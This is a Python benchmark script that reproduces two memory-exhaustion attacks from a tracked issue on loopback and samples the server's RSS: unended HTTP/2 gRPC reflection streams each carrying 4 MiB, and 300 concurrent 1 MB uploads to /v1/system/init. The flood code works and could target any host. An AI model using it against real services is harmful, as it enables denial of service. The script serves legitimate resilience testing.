#!/usr/bin/env python3
"""Peak and after-load RSS of a running roster under the two memory attacks
of issue 6, on loopback only:

  A. 100 HTTP/2 streams to the (public) reflection service, each sending
     about 4 MiB of a gRPC message and never ending its stream;
  B. 300 concurrent HTTP/1.1 uploads of 1 MB to /v1/system/init.

    python3 bench/memory.py PID HOST:PORT      (needs `pip install h2`)

Prints VmRSS before, at peak (VmHWM is not reset between attacks, so the
peak is sampled), and a few seconds after the sockets close.
"""
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events

PID, ADDRESS = int(sys.argv[1]), sys.argv[2]
HOST, PORT = ADDRESS.rsplit(":", 1)
PORT = int(PORT)


def rss_mib():
    with open(f"/proc/{PID}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


class PeakSampler(threading.Thread):
    def __init__(self):
        super().__init__(daemon=True)
        self.peak, self.running = 0.0, True

    def run(self):
        while self.running:
            self.peak = max(self.peak, rss_mib())
            time.sleep(0.02)


def attack_reflection_streams(streams=100, per_stream=4 * 1024 * 1024, hold=3.0):
    sock = socket.create_connection((HOST, PORT))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    remaining = {}
    for _ in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, [
            (":method", "POST"), (":scheme", "http"), (":authority", ADDRESS),
            (":path", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"),
            ("content-type", "application/grpc"), ("te", "trailers"),
        ])
        # A frame header announcing the whole message, then its bytes.
        header = b"\x00" + (per_stream - 5).to_bytes(4, "big")
        conn.send_data(stream_id, header)
        remaining[stream_id] = per_stream - 5
    sock.sendall(conn.data_to_send())
    sock.settimeout(0.05)
    deadline = time.time() + 15
    reset = set()
    while time.time() < deadline and any(n > 0 for s, n in remaining.items() if s not in reset):
        for stream_id, left in remaining.items():
            if left <= 0 or stream_id in reset:
                continue
            window = min(conn.local_flow_control_window(stream_id), conn.max_outbound_frame_size)
            if window <= 0:
                continue
            chunk = min(window, left)
            try:
                conn.send_data(stream_id, b"\x00" * chunk)
            except Exception:
                reset.add(stream_id)
                continue
            remaining[stream_id] = left - chunk
        sock.sendall(conn.data_to_send())
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.StreamReset) or isinstance(event, h2.events.StreamEnded):
                reset.add(event.stream_id)
        sock.sendall(conn.data_to_send())
    sent = sum(per_stream - 5 - max(n, 0) for n in remaining.values())
    time.sleep(hold)  # the streams stay open, never ended
    sock.close()
    return sent, len(reset)


def attack_uploads(count=300, size=1_000_000):
    barrier = threading.Barrier(count)
    statuses = []

    def upload():
        sock = socket.create_connection((HOST, PORT))
        body = b'{"setupCode":"' + b"x" * (size - 17) + b'"}'
        barrier.wait()
        try:
            sock.sendall(
                b"POST /v1/system/init HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Type: application/json\r\nContent-Length: "
                + str(len(body)).encode() + b"\r\n\r\n" + body)
            reply = sock.recv(200)
            statuses.append(reply.split(b" ")[1].decode() if reply else "closed")
        except OSError as error:
            statuses.append(type(error).__name__)
        finally:
            sock.close()

    threads = [threading.Thread(target=upload) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def measure(name, attack):
    before = rss_mib()
    sampler = PeakSampler()
    sampler.start()
    outcome = attack()
    sampler.running = False
    sampler.join()
    time.sleep(5)
    after = rss_mib()
    print(f"{name}: RSS before {before:.0f} MiB, peak {sampler.peak:.0f} MiB, "
          f"5 s after {after:.0f} MiB ({outcome})")


measure("A. 100 HTTP/2 streams x 4 MiB to reflection, never ended",
        lambda: "bytes accepted by the server %d, streams reset %d" % attack_reflection_streams())
measure("B. 300 HTTP/1.1 uploads of 1 MB to /v1/system/init",
        lambda: "statuses %s" % sorted({s: 0 for s in attack_uploads()}))
